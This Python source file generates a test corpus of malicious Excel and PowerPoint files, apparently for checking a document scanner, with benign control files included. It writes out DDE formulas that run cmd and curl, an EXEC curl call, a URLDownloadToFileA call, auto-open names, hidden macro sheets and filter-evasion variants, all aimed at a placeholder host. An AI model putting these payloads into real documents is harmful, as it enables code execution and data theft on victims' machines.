"""Attacks in workbooks and shows of OOXML."""

import attack_show
from attack import HOST, RELATION, TYPE, XML, Attack, S, formula, pptx, relations, xlsx
from attack_word import OLE

MS = "http://schemas.microsoft.com/office/2006/relationships"


def formulas():
    for name, text in (
        ("dde", f"cmd|'/c curl {HOST}'!A0"),
        ("dde-spaces", f"cmd | '/c curl {HOST}' ! A0"),
        ("dde-excel", f"MSEXCEL|'\\..\\..\\cmd.exe /c {HOST}'!A"),
        ("webservice", f'_xlfn.WEBSERVICE("http://{HOST}")'),
        ("webservice-plain", f'WEBSERVICE("http://{HOST}/"&A2)'),
        ("webservice-case", f'_XLFN.webService("http://{HOST}")'),
        ("webservice-space", f'_xlfn.WEBSERVICE ("http://{HOST}")'),
        ("webservice-line", f'_xlfn.WEBSERVICE\n("http://{HOST}")'),
        ("webservice-nested", f'IF(1,SUM(1,_xlfn.WEBSERVICE("http://{HOST}")))'),
        ("image", f'_xlfn.IMAGE("https://{HOST}/x.png")'),
        ("rtd", f'RTD("x","{HOST}","y")'),
        ("call", f'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://{HOST}")'),
        ("register", 'REGISTER.ID("kernel32","WinExec")'),
        ("exec", f'EXEC("curl {HOST}")'),
        ("hyperlink", f'HYPERLINK("file://{HOST}/x.exe","押す")'),
        ("filterxml", '_xlfn.FILTERXML("<a/>","//a")'),
        ("stockhistory", '_xlfn.STOCKHISTORY("X")'),
        ("cube", f'CUBEVALUE("{HOST}","x")'),
        ("other-book", "[1]Sheet1!$A$1"),
        ("other-book-path", f"'http://{HOST}/[x.xlsx]Sheet1'!$A$1"),
        ("other-book-unc", f"'\\\\{HOST}\\s\\[x.xlsx]S'!A1"),
        ("evaluate", f"EVALUATE(\"cmd|'{HOST}'!A\")"),
        ("python", "_xlfn._xlws.PY(0,1)"),
        ("indirect-built", f'INDIRECT("[http://{HOST}/x.xlsx]S!A1")'),
    ):
        yield f"formula-{name}", f"formula {name}", xlsx(formula(text))
    yield (
        "formula-entities",
        "WEBSERVICE as character references",
        xlsx(f'<c r="A1"><f>_xlfn.WEBSER&#86;ICE("http://{HOST}")</f><v>1</v></c>'),
    )
    yield "formula-cdata", "DDE in CDATA", xlsx(f"<c r=\"A1\"><f>cmd<![CDATA[|]]>'/c {HOST}'!A0</f><v>1</v></c>")
    yield (
        "formula-comment",
        "WEBSERVICE with a comment inside",
        xlsx(f'<c r="A1"><f>_xlfn.WEB<!-- -->SERVICE("http://{HOST}")</f><v>1</v></c>'),
    )
    yield (
        "formula-array",
        "array formula",
        xlsx(f'<c r="A1"><f t="array" ref="A1">_xlfn.WEBSERVICE("http://{HOST}")</f><v>1</v></c>'),
    )
    yield (
        "formula-shared",
        "shared formula",
        xlsx(f'<c r="A1"><f t="shared" si="0" ref="A1:A2">_xlfn.WEBSERVICE("http://{HOST}")</f><v>1</v></c>'),
    )
    yield (
        "formula-validation",
        "formula of a validation",
        xlsx(
            "",
            sheet=f'<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>_xlfn.WEBSERVICE("http://{HOST}")</formula1></dataValidation></dataValidations>',
        ),
    )
    yield (
        "formula-condition",
        "formula of a conditional format",
        xlsx(
            "",
            sheet=f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>_xlfn.WEBSERVICE("http://{HOST}")=1</formula></cfRule></conditionalFormatting>',
        ),
    )
    ext = f'<extLst><ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" priority="1" id="{{0}}"><xm:f>_xlfn.WEBSERVICE("http://{HOST}")</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>'
    yield "formula-extension", "formula in an extension list", xlsx("", sheet=ext)


def books():
    for name, attributes, value in (
        ("auto-open", 'name="Auto_Open"', "Sheet1!$A$1"),
        ("auto-open-builtin", 'name="_xlnm.Auto_Open" hidden="1"', "Sheet1!$A$1"),
        ("auto-open-case", 'name="aUtO_oPeN1"', "Sheet1!$A$1"),
        ("xlm", 'name="x" xlm="1" function="1"', "Macro1!$A$1"),
        ("formula", 'name="x"', f'_xlfn.WEBSERVICE("http://{HOST}")'),
        ("dde", 'name="x"', f"cmd|'/c {HOST}'!A0"),
        ("exec", 'name="x"', f'EXEC("curl {HOST}")'),
        ("vb", 'name="x" vbProcedure="1" function="1"', "x"),
    ):
        yield (
            f"name-{name}",
            f"defined name {name}",
            xlsx(formula("x"), f"<definedNames><definedName {attributes}>{value}</definedName></definedNames>"),
        )
    macro = f'{XML}<xm:macrosheet xmlns="{S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("curl {HOST}")</f></c></row></sheetData></xm:macrosheet>'
    for name, part, kind in (
        ("", "macrosheets/sheet2.xml", "xlMacrosheet"),
        ("-international", "macrosheets/intlsheet2.xml", "xlIntlMacrosheet"),
        ("-disguised", "worksheets/sheet2.xml", "xlMacrosheet"),
    ):
        yield (
            f"macro-sheet{name}",
            "sheet of XLM macros",
            xlsx(
                "",
                sheets='<sheet name="m" sheetId="2" state="veryHidden" r:id="rId2"/>',
                book_rows=[("rId2", f"{MS}/{kind}", part)],
                parts={f"xl/{part}": macro},
                overrides={f"/xl/{part}": "application/vnd.ms-excel.macrosheet+xml"},
            ),
        )
    yield (
        "dialog-sheet",
        "dialog sheet",
        xlsx(
            "",
            book_rows=[("rId2", "dialogsheet", "dialogsheets/sheet1.xml")],
            parts={"xl/dialogsheets/sheet1.xml": f'{XML}<dialogsheet xmlns="{S}"/>'},
            overrides={"/xl/dialogsheets/sheet1.xml": TYPE + "spreadsheetml.dialogsheet+xml"},
        ),
    )
    link = f'{XML}<externalLink xmlns="{S}" xmlns:r="{RELATION}">%s</externalLink>'
    for name, inner in (
        ("book", '<externalBook r:id="rId1"><sheetNames><sheetName val="a"/></sheetNames></externalBook>'),
        (
            "dde",
            f'<ddeLink ddeService="cmd" ddeTopic="/c curl {HOST}"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>',
        ),
        ("ole", '<oleLink r:id="rId1" progId="htmlfile"><oleItems><oleItem name="x" advise="1"/></oleItems></oleLink>'),
    ):
        yield (
            f"link-{name}",
            f"external link: {name}",
            xlsx(
                formula("[1]a!A1"),
                '<externalReferences><externalReference r:id="rId2"/></externalReferences>',
                book_rows=[("rId2", "externalLink", "externalLinks/externalLink1.xml")],
                parts={
                    "xl/externalLinks/externalLink1.xml": link % inner,
                    "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                        [("rId1", "externalLinkPath", f"http://{HOST}/x.xlsx", "External")]
                    ),
                },
                overrides={"/xl/externalLinks/externalLink1.xml": TYPE + "spreadsheetml.externalLink+xml"},
            ),
        )
    connections = f'{XML}<connections xmlns="{S}"><connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="http://{HOST}/x.iqy"/></connection></connections>'
    yield (
        "connections",
        "data connection that refreshes on opening",
        xlsx(
            "",
            book_rows=[("rId2", "connections", "connections.xml")],
            parts={"xl/connections.xml": connections},
            overrides={"/xl/connections.xml": TYPE + "spreadsheetml.connections+xml"},
        ),
    )
    query = f'{XML}<queryTable xmlns="{S}" name="q" connectionId="1" refreshOnLoad="1"/>'
    yield (
        "query-table",
        "query table",
        xlsx(
            "",
            rows=[("rId1", "queryTable", "../queryTables/queryTable1.xml")],
            parts={"xl/queryTables/queryTable1.xml": query},
            overrides={"/xl/queryTables/queryTable1.xml": TYPE + "spreadsheetml.queryTable+xml"},
        ),
    )
    cache = f'{XML}<pivotCacheDefinition xmlns="{S}" xmlns:r="{RELATION}" refreshOnLoad="1"><cacheSource type="external" connectionId="1"/><cacheFields count="0"/></pivotCacheDefinition>'
    yield (
        "pivot-external",
        "pivot cache from a connection",
        xlsx(
            "",
            '<pivotCaches><pivotCache cacheId="1" r:id="rId2"/></pivotCaches>',
            book_rows=[("rId2", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")],
            parts={"xl/pivotCache/pivotCacheDefinition1.xml": cache},
            overrides={"/xl/pivotCache/pivotCacheDefinition1.xml": TYPE + "spreadsheetml.pivotCacheDefinition+xml"},
        ),
    )
    yield (
        "mashup",
        "Power Query in custom XML",
        xlsx(
            "",
            book_rows=[("rId2", "customXml", "../customXml/item1.xml")],
            parts={
                "customXml/item1.xml": f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{HOST}</DataMashup>'
            },
        ),
    )
    yield (
        "volatile",
        "real-time data",
        xlsx(
            "",
            book_rows=[("rId2", "volatileDependencies", "volatileDependencies.xml")],
            parts={
                "xl/volatileDependencies.xml": f'{XML}<volTypes xmlns="{S}"><volType type="realTimeData"><main first="{HOST}"/></volType></volTypes>'
            },
            overrides={"/xl/volatileDependencies.xml": TYPE + "spreadsheetml.volatileDependencies+xml"},
        ),
    )
    yield (
        "xlsb-name",
        "binary workbook under the name xlsx",
        xlsx("", kind="application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    )
    yield (
        "vba",
        "VBA in a workbook",
        xlsx(
            "",
            book_rows=[("rId2", f"{MS}/vbaProject", "vbaProject.bin")],
            parts={"xl/vbaProject.bin": OLE},
            defaults={"bin": "application/vnd.ms-office.vbaProject"},
            kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
    )
    for n, target in enumerate(
        (f"file://{HOST}/x.exe", f"\\\\{HOST}\\x", f"ms-excel:ofe|u|http://{HOST}", "javascript:alert(1)")
    ):
        yield (
            f"hyperlink-{n}",
            "hyperlink of a sheet",
            xlsx(
                "",
                sheet='<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>',
                rows=[("rId1", "hyperlink", target, "External")],
            ),
        )
    yield (
        "hyperlink-location",
        "hyperlink whose location is a formula",
        xlsx("", sheet=f'<hyperlinks><hyperlink ref="A1" location="file://{HOST}/x" display="a"/></hyperlinks>'),
    )
    vml = '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="s1" type="#t"><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Run</x:FmlaMacro></x:ClientData></v:shape></xml>'
    yield (
        "button",
        "button of VML with a macro",
        xlsx(
            "",
            sheet='<legacyDrawing r:id="rId1"/>',
            rows=[("rId1", "vmlDrawing", "../drawings/vmlDrawing1.vml")],
            parts={"xl/drawings/vmlDrawing1.vml": vml},
            defaults={"vml": TYPE + "vmlDrawing"},
        ),
    )
    drawing = f'{XML}<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="9" cy="9"/><xdr:sp macro="[0]!Run" textlink="[1]a!A1"><xdr:nvSpPr><xdr:cNvPr id="2" name="s"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>'
    yield (
        "shape-macro",
        "shape with a macro",
        xlsx(
            "",
            sheet='<drawing r:id="rId1"/>',
            rows=[("rId1", "drawing", "../drawings/drawing1.xml")],
            parts={"xl/drawings/drawing1.xml": drawing},
            overrides={"/xl/drawings/drawing1.xml": TYPE.replace("officedocument.", "officedocument.") + "drawing+xml"},
        ),
    )
    control = f'{XML}<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" fmlaMacro="Run" fmlaLink="A1"/>'
    yield (
        "control",
        "form control",
        xlsx(
            "",
            sheet='<controls><control shapeId="1" r:id="rId1" name="b"/></controls>',
            rows=[("rId1", "ctrlProp", "../ctrlProps/ctrlProp1.xml")],
            parts={"xl/ctrlProps/ctrlProp1.xml": control},
            overrides={"/xl/ctrlProps/ctrlProp1.xml": "application/vnd.ms-excel.controlproperties+xml"},
        ),
    )
    yield (
        "ole-objects",
        "embedded object in a sheet",
        xlsx(
            "",
            sheet='<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId1"/></oleObjects>',
            rows=[("rId1", "oleObject", "../embeddings/oleObject1.bin")],
            parts={"xl/embeddings/oleObject1.bin": OLE},
            defaults={"bin": TYPE + "oleObject"},
        ),
    )
    yield (
        "ole-link",
        "linked object in a sheet",
        xlsx(
            "",
            sheet=f'<oleObjects><oleObject progId="x" shapeId="1" link="[1]!\'http://{HOST}\'" oleUpdate="OLEUPDATE_ALWAYS"/></oleObjects>',
        ),
    )
    yield (
        "web-publish",
        "publishing to the web",
        xlsx(
            "",
            sheet=f'<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="http://{HOST}/x.htm"/></webPublishItems>',
        ),
    )


# Addresses in words of tags alone, and functions that need an address which is put together while calculating.
UNSEEN = set("formula-indirect-built".split())


def attacks():
    for name, what, data in [*formulas(), *books()]:
        yield Attack(f"xlsx/{name}.xlsx", what, data, seen=name not in UNSEEN)
    for name, what, data in attack_show.shows():
        yield Attack(f"pptx/{name}.pptx", what, data, seen=name not in UNSEEN)
    yield Attack("xlsx/plain.xlsx", "nothing", xlsx(formula("SUM(1,2)", "3")), control=True, seen=False)
    yield Attack("pptx/plain.pptx", "nothing", pptx(""), control=True, seen=False)
